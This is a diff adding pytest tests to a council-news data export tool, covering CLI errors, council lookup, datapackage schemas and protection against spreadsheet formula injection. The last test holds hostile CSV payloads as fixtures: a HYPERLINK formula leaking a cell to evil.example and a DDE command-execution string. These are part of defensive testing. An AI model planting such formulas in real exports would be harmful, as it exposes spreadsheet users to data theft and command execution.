@@ -143,3 +143,112 @@ def test_suppliers_and_contracts_are_in_the_extract(demo_db, tmp_path):
     suppliers = read_csv(out / "suppliers.csv")  # reference tables stay whole
     assert len(suppliers) >= 150
     assert {m["supplier_id"] for m in read_csv(out / "supplier_mentions.csv")} == {"liberata"}
+
+
+@pytest.mark.parametrize(
+    ("args", "message"),
+    [
+        (["--council", "Atlantis"], "--council Atlantis: no council has that name or code"),
+        (["--council", "Kingston"], "--council Kingston: fits 2 councils"),
+        (["--council", "CMD", "--council", "ZZZ"], "--council ZZZ: no council"),
+        (["--service", "it"], "--service it: not a service id (choose from "),
+    ],
+)
+def test_unknown_council_or_service_fails_in_one_line(demo_db, tmp_path, args, message):
+    result = CliRunner().invoke(cli, ["export", "--db", str(demo_db), "-o", str(tmp_path), *args])
+    assert result.exit_code == 1
+    assert message in result.output and result.output.count("\n") == 1
+    assert list(tmp_path.iterdir()) == []  # nothing written
+
+
+def test_council_by_name_or_code(demo_db, tmp_path):
+    by_code = export_extract(demo_db, tmp_path / "a", filters=Filters(councils=["CMD"]), today=DAY)
+    by_name = export_extract(
+        demo_db, tmp_path / "b", filters=Filters(councils=["LB Camden"]), today=DAY
+    )
+    assert read_csv(by_code / "articles.csv") == read_csv(by_name / "articles.csv")
+    package = json.loads((by_name / "datapackage.json").read_text(encoding="utf-8"))
+    assert package["councilwatch"]["filters"]["council"] == ["CMD"]
+
+
+def test_export_again_replaces_the_folder_whole(demo_db, tmp_path):
+    first = export_extract(demo_db, tmp_path, today=DAY)
+    (first / "notes.txt").write_text("mine")
+    again = export_extract(demo_db, tmp_path, tables=["services"], today=DAY)
+    assert again == first
+    assert sorted(p.name for p in again.iterdir()) == ["datapackage.json", "services.csv"]
+    assert [p.name for p in tmp_path.iterdir()] == [again.name]  # no work folders left
+
+
+def test_datapackage_types_enums_and_sources(demo_db, tmp_path):
+    out = export_extract(demo_db, tmp_path, today=DAY)
+    package = json.loads((out / "datapackage.json").read_text(encoding="utf-8"))
+    fields = {
+        r["name"]: {f["name"]: f for f in r["schema"]["fields"]} for r in package["resources"]
+    }
+    assert fields["articles"]["published"]["type"] == "datetime"
+    assert fields["articles"]["fetched_at"]["type"] == "datetime"
+    assert fields["councils"]["start_date"]["type"] == "date"
+    assert fields["articles"]["authors"]["type"] == "array"
+    assert fields["arrangements"]["partners"]["type"] == "array"
+    assert fields["money_mentions"]["role"]["constraints"]["enum"] == [
+        "saving", "spend", "contract", "funding", "fine", "other"
+    ]  # fmt: skip
+    assert fields["money_mentions"]["period"]["constraints"]["enum"] == ["year", "total"]
+    assert fields["arrangements"]["status"]["constraints"]["enum"] == [
+        "proposed", "agreed", "live", "ended"
+    ]  # fmt: skip
+    with sqlite3.connect(demo_db) as conn:
+        for table, column in (("money_mentions", "role"), ("money_mentions", "period"),
+                              ("arrangements", "status")):  # fmt: skip
+            values = {r[0] for r in conn.execute(f"select distinct {column} from {table}")}
+            allowed = set(fields[table][column]["constraints"]["enum"]) | {None}
+            assert values <= allowed, (table, column, values - allowed)
+    with sqlite3.connect(demo_db) as conn:
+        press = conn.execute(
+            "select coalesce(s.title, s.name) from sources s"
+            " where s.name in (select source from articles)"
+        ).fetchall()
+    assert [s["title"] for s in package["sources"][:-1]] == [t for (t,) in press]
+    assert package["sources"][-1]["path"].endswith("uk_local_authority_names_and_codes")
+    money = read_csv(out / "money_by_council.csv")
+    assert {
+        "amount_gbp",
+        "role",
+        "code",
+        "council",
+        "title",
+        "url",
+        "published",
+        "sentence",
+    } <= set(money[0])
+    assert any(r["code"] == "CMD" and r["amount_gbp"] == "4000000.0" for r in money)
+
+
+def test_csv_is_spreadsheet_safe_unless_raw(demo_db, tmp_path):
+    import shutil
+
+    db = tmp_path / "hostile.db"
+    shutil.copy(demo_db, db)
+    titles = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "=cmd|' /C calc'!A0",
+              "+1+2", "-2", "@SUM(A1)", "\tTabbed", "\rReturn", "Camden = good"]  # fmt: skip
+    with sqlite3.connect(db) as conn:
+        for i, title in enumerate(titles):
+            conn.execute(
+                "insert into articles (url, canonical_url, title, body, content_hash, fetched_at)"
+                " values (?, ?, ?, 'b', 'h', '2026-01-01')",
+                [f"https://example.org/h{i}", f"https://example.org/h{i}", title],
+            )
+    safe = export_extract(db, tmp_path / "safe", tables=["articles"], today=DAY)
+    got = {r["url"]: r["title"] for r in read_csv(safe / "articles.csv")}
+    for i, title in enumerate(titles):
+        expected = title if title.startswith("Camden") else "'" + title
+        assert got[f"https://example.org/h{i}"] == expected
+    raw = export_extract(db, tmp_path / "raw", tables=["articles"], today=DAY, raw_csv=True)
+    got = {r["url"]: r["title"] for r in read_csv(raw / "articles.csv")}
+    assert [got[f"https://example.org/h{i}"] for i in range(len(titles))] == titles
+    result = CliRunner().invoke(
+        cli, ["export", "--db", str(db), "-o", str(tmp_path / "cli"), "--table", "articles",
+              "--raw-csv"],
+    )  # fmt: skip
+    assert result.exit_code == 0, result.output
